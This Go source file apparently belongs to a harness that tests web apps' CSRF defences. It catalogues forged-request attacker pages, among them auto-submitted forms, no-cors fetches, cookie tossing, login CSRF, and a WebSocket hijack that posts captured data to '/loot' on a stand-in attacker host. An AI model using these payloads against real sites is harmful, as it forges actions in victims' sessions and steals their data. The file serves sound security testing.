package attack

// A Case is one attempt, forged or legitimate, run in a fresh browser
// profile.
type Case struct {
	// Name is short and stable, such as "form-urlencoded".
	Name string
	// Doc says what the case does, in one line.
	Doc string

	// From is the site that serves the attacker's page.
	From Site
	// Setup is the state of the victim's browser before the case.
	Setup Setup
	// Wait says how the runner knows the attempt is over.
	Wait Wait

	// Legit marks a legitimate flow: it must change state on every victim,
	// protected or not.
	Legit bool
	// BrowserStops marks an attack that the browser itself stops (a CORS
	// preflight that the victim does not approve): it must change nothing
	// even on the unprotected control. Every other attack must succeed on
	// the control, which proves that it really attacks.
	BrowserStops bool
	// NoEffect marks a legitimate flow that must change nothing (a link
	// that merely opens a page), and that instead must leave the victim
	// signed in on the target's page.
	NoEffect bool

	// Needs lists the target features the case uses ("get", "override",
	// "ws", "logout"); a target without one skips the case.
	Needs []string
	// StolenToken makes the runner sign the attacker in with their own
	// account first and hand their anti-CSRF token to the page.
	StolenToken bool

	// Page is the attacker's page, an html/template executed with the
	// fields of pageData; it calls done() when the attempt is over.
	Page string

	// Steps is the body of a legitimate flow, run instead of Page.
	Steps func(*run) error
}

// A Site is where a case's page is served from.
type Site uint8

const (
	// Attacker is evil.test, another site.
	Attacker Site = iota
	// Sibling is evil.<victim host>, a subdomain of the victim's own
	// site: same-site but cross-origin.
	Sibling
	// Own is the target itself (legitimate flows).
	Own
)

// Setup is the victim's browser state before a case.
type Setup uint8

const (
	// SignedIn: the victim visited the target and signed in.
	SignedIn Setup = iota
	// SignedOut: the victim visited the target's sign-in page but did not
	// sign in.
	SignedOut
)

// Wait says when an attempt is over.
type Wait uint8

const (
	// Signal: the page calls done().
	Signal Wait = iota
	// Navigate: the page navigates the top window to the target.
	Navigate
)

// Cases returns the catalogue: every attack and legitimate flow.
func Cases() []Case {
	return append(Attacks(), Legit()...)
}

// Attacks returns the forged requests.
func Attacks() []Case {
	return []Case{
		{
			Name: "form-urlencoded", Doc: "auto-submitted cross-site form, application/x-www-form-urlencoded",
			Wait: Navigate,
			Page: `<form id=f method=POST action="{{.V}}{{.T.FormPath}}">{{template "fields" .Fields}}</form>
<script>f.submit()</script>`,
		},
		{
			Name: "form-multipart", Doc: "auto-submitted cross-site form, multipart/form-data",
			Needs: []string{"multipart"}, Wait: Navigate,
			Page: `<form id=f method=POST enctype="multipart/form-data" action="{{.V}}{{.T.FormPath}}">{{template "fields" .Fields}}</form>
<script>f.submit()</script>`,
		},
		{
			Name: "form-text-plain-json", Doc: "cross-site form, enctype text/plain, body shaped like JSON",
			Wait: Navigate,
			Page: `<form id=f method=POST enctype="text/plain" action="{{.V}}{{.T.JSONPath}}"><input type=hidden name="{{.PlainName}}" value="{{.PlainValue}}"></form>
<script>f.submit()</script>`,
		},
		{
			Name: "fetch-no-cors-form", Doc: "fetch mode no-cors, credentials include, urlencoded body",
			Page: `<script>fetch({{.V}} + {{.T.FormPath}}, {method: "POST", mode: "no-cors", credentials: "include",
  body: new URLSearchParams({{.T.FormFields}})}).finally(done)</script>`,
		},
		{
			Name: "fetch-no-cors-multipart", Doc: "fetch mode no-cors, credentials include, FormData body",
			Needs: []string{"multipart"},
			Page: `<script>const fd = new FormData(); for (const [k, v] of new URLSearchParams({{.T.FormFields}})) fd.append(k, v);
fetch({{.V}} + {{.T.FormPath}}, {method: "POST", mode: "no-cors", credentials: "include", body: fd}).finally(done)</script>`,
		},
		{
			Name: "fetch-no-cors-json", Doc: "fetch mode no-cors, credentials include, JSON in a text/plain body",
			Page: `<script>fetch({{.V}} + {{.T.JSONPath}}, {method: "POST", mode: "no-cors", credentials: "include",
  body: {{.T.JSONBody}}}).finally(done)</script>`,
		},
		{
			Name: "beacon-json", Doc: "navigator.sendBeacon with JSON in a text/plain body",
			Page: `<script>navigator.sendBeacon({{.V}} + {{.T.JSONPath}}, {{.T.JSONBody}}); setTimeout(done, 500)</script>`,
		},
		{
			Name: "beacon-form", Doc: "navigator.sendBeacon with an urlencoded body",
			Page: `<script>navigator.sendBeacon({{.V}} + {{.T.FormPath}}, new URLSearchParams({{.T.FormFields}})); setTimeout(done, 500)</script>`,
		},
		{
			Name: "img-get", Doc: "<img> load of the state-changing GET",
			Needs: []string{"get"},
			Page:  `<img src="{{.V}}{{.T.GetURL}}" onload="done()" onerror="done()">`,
		},
		{
			Name: "script-get", Doc: "<script src> load of the state-changing GET",
			Needs: []string{"get"},
			Page:  `<script src="{{.V}}{{.T.GetURL}}" onload="done()" onerror="done()"></script>`,
		},
		{
			Name: "link-stylesheet-get", Doc: "<link rel=stylesheet> load of the state-changing GET",
			Needs: []string{"get"},
			Page:  `<link rel=stylesheet href="{{.V}}{{.T.GetURL}}" onload="done()" onerror="done()">`,
		},
		{
			Name: "top-navigation-get", Doc: "top-level navigation to the state-changing GET",
			Needs: []string{"get"}, Wait: Navigate,
			Page: `<script>location.href = {{.V}} + {{.T.GetURL}}</script>`,
		},
		{
			Name: "form-get", Doc: "auto-submitted cross-site form with method GET",
			Needs: []string{"get"}, Wait: Navigate,
			Page: `<form id=f method=GET action="{{.V}}{{.GetPath}}">{{template "fields" .GetFields}}</form>
<script>f.submit()</script>`,
		},
		{
			Name: "form-into-iframe", Doc: "cross-site form targeted into a hidden iframe",
			Page: `<iframe name=sink style="display:none"></iframe>
<form id=f method=POST target=sink action="{{.V}}{{.T.FormPath}}">{{template "fields" .Fields}}</form>
<script>document.querySelector("iframe").onload = done; f.submit()</script>`,
		},
		{
			Name: "form-into-popup", Doc: "cross-site form targeted into a new window",
			Page: `<form id=f method=POST target=_blank action="{{.V}}{{.T.FormPath}}">{{template "fields" .Fields}}</form>
<script>f.submit(); setTimeout(done, 1500)</script>`,
		},
		{
			Name: "popup-get", Doc: "window.open of the state-changing GET",
			Needs: []string{"get"},
			Page:  `<script>window.open({{.V}} + {{.T.GetURL}}); setTimeout(done, 1500)</script>`,
		},
		{
			Name: "sandboxed-iframe-form", Doc: "form posted from a sandboxed iframe (Origin: null)",
			Page: `<iframe sandbox="allow-forms allow-scripts" srcdoc="{{.FormDoc}}"></iframe>
<script>document.querySelector("iframe").onload = done</script>`,
		},
		{
			Name: "data-url-iframe-form", Doc: "form posted from a data: URL iframe (Origin: null)",
			Page: `<iframe></iframe>
<script>const fr = document.querySelector("iframe"); fr.onload = done; fr.src = {{.FormDataURL}}</script>`,
		},
		{
			Name: "no-referrer-form", Doc: "cross-site form from a page with referrer policy no-referrer",
			Wait: Navigate,
			Page: `<meta name=referrer content=no-referrer>
<form id=f method=POST rel=noreferrer action="{{.V}}{{.T.FormPath}}">{{template "fields" .Fields}}</form>
<script>f.submit()</script>`,
		},
		{
			Name: "no-referrer-img-get", Doc: "<img referrerpolicy=no-referrer> GET: no Origin, no Referer",
			Needs: []string{"get"},
			Page:  `<img referrerpolicy=no-referrer src="{{.V}}{{.T.GetURL}}" onload="done()" onerror="done()">`,
		},
		{
			Name: "no-referrer-fetch", Doc: "fetch no-cors with referrerPolicy no-referrer",
			Page: `<script>fetch({{.V}} + {{.T.FormPath}}, {method: "POST", mode: "no-cors", credentials: "include",
  referrerPolicy: "no-referrer", body: new URLSearchParams({{.T.FormFields}})}).finally(done)</script>`,
		},
		{
			Name: "override-query", Doc: "cross-site form POST with ?_method=DELETE",
			Needs: []string{"override"}, Wait: Navigate,
			Page: `<form id=f method=POST action="{{.V}}{{.T.OverridePath}}?_method=DELETE"></form>
<script>f.submit()</script>`,
		},
		{
			Name: "override-body", Doc: "cross-site form POST with a _method=DELETE field",
			Needs: []string{"override"}, Wait: Navigate,
			Page: `<form id=f method=POST action="{{.V}}{{.T.OverridePath}}"><input type=hidden name=_method value=DELETE></form>
<script>f.submit()</script>`,
		},
		{
			Name: "override-header-fetch", Doc: "cross-origin fetch with X-HTTP-Method-Override: DELETE (dies at preflight)",
			Needs: []string{"override"}, BrowserStops: true,
			Page: `<script>fetch({{.V}} + {{.T.OverridePath}}, {method: "POST", credentials: "include",
  headers: {"X-HTTP-Method-Override": "DELETE"}}).catch(() => {}).finally(done)</script>`,
		},
		{
			Name: "custom-header-fetch", Doc: "cross-origin fetch with a forged X-CSRF-Token header (dies at preflight)",
			BrowserStops: true,
			Page: `<script>fetch({{.V}} + {{.T.JSONPath}}, {method: "POST", credentials: "include",
  headers: {"X-CSRF-Token": "forged", "X-Requested-With": "XMLHttpRequest"}, body: {{.T.JSONBody}}}).catch(() => {}).finally(done)</script>`,
		},
		{
			Name: "json-content-type-fetch", Doc: "cross-origin fetch with Content-Type application/json (dies at preflight)",
			BrowserStops: true,
			Page: `<script>fetch({{.V}} + {{.T.JSONPath}}, {method: "POST", credentials: "include",
  headers: {"Content-Type": "application/json"}, body: {{.T.JSONBody}}}).catch(() => {}).finally(done)</script>`,
		},
		{
			Name: "redirect-307-form", Doc: "cross-site form to the attacker's own 307 redirect to the target",
			Wait: Navigate,
			Page: `<form id=f method=POST action="/r307?to={{.V}}{{.T.FormPath}}">{{template "fields" .Fields}}</form>
<script>f.submit()</script>`,
		},
		{
			Name: "sibling-form", Doc: "auto-submitted form from the same-site sibling evil.<host>",
			From: Sibling, Wait: Navigate,
			Page: `<form id=f method=POST action="{{.V}}{{.T.FormPath}}">{{template "fields" .Fields}}</form>
<script>f.submit()</script>`,
		},
		{
			Name: "sibling-fetch-no-cors-json", Doc: "fetch no-cors with JSON body from the same-site sibling",
			From: Sibling,
			Page: `<script>fetch({{.V}} + {{.T.JSONPath}}, {method: "POST", mode: "no-cors", credentials: "include",
  body: {{.T.JSONBody}}}).finally(done)</script>`,
		},
		{
			Name: "sibling-img-get", Doc: "<img> GET from the same-site sibling (Lax cookies would be sent)",
			From: Sibling, Needs: []string{"get"},
			Page: `<img src="{{.V}}{{.T.GetURL}}" onload="done()" onerror="done()">`,
		},
		{
			Name: "cookie-tossing", Doc: "the sibling sets csrf cookies for the parent domain, then posts the matching token",
			From: Sibling, Wait: Navigate, StolenToken: true,
			Page: `<script>
// A more specific Path makes the browser send the tossed cookie before
// the victim's own cookie of the same name.
for (const name of ["csrf", "_csrf", "csrf_token", "__Host-csrf", "forgeproof", "__Host-forgeproof"]) {
  for (const path of ["/", {{.T.FormPath}}]) {
    document.cookie = name + "=" + {{.Token}} + "; Domain=" + {{.Host}} + "; Path=" + path + "; Secure; SameSite=None";
  }
}
</script>
<form id=f method=POST action="{{.V}}{{.T.FormPath}}">{{template "fields" .Fields}}<input type=hidden name="{{.T.TokenField}}" value="{{.Token}}"></form>
<script>f.submit()</script>`,
		},
		{
			Name: "stolen-token", Doc: "cross-site form carrying the attacker's own valid token",
			Wait: Navigate, StolenToken: true,
			Page: `<form id=f method=POST action="{{.V}}{{.T.FormPath}}">{{template "fields" .Fields}}<input type=hidden name="{{.T.TokenField}}" value="{{.Token}}"></form>
<script>f.submit()</script>`,
		},
		{
			Name: "stolen-token-sibling", Doc: "the attacker's own valid token, posted from the same-site sibling",
			From: Sibling, Wait: Navigate, StolenToken: true,
			Page: `<form id=f method=POST action="{{.V}}{{.T.FormPath}}">{{template "fields" .Fields}}<input type=hidden name="{{.T.TokenField}}" value="{{.Token}}"></form>
<script>f.submit()</script>`,
		},
		{
			Name: "login-csrf", Doc: "signs the victim's browser in to the attacker's account",
			Setup: SignedOut, Wait: Navigate,
			Page: `<form id=f method=POST action="{{.V}}{{.T.LoginPath}}"><input type=hidden name="{{.T.UserField}}" value="{{.T.AttackerUser}}"><input type=hidden name="{{.T.PasswordField}}" value="{{.T.AttackerPassword}}"></form>
<script>f.submit()</script>`,
		},
		{
			Name: "logout-csrf", Doc: "signs the victim out with a cross-site form",
			Needs: []string{"logout"}, Wait: Navigate,
			Page: `<form id=f method=POST action="{{.V}}{{.T.LogoutPath}}"></form>
<script>f.submit()</script>`,
		},
		{
			Name: "websocket-hijack", Doc: "cross-site WebSocket opened with the victim's cookies, reads their data",
			Needs: []string{"ws"},
			Page: `<script>const ws = new WebSocket({{.WebSocketURL}});
ws.onmessage = e => { fetch("/loot", {method: "POST", body: e.data}); ws.close(); done() };
ws.onerror = done; ws.onclose = done</script>`,
		},
	}
}
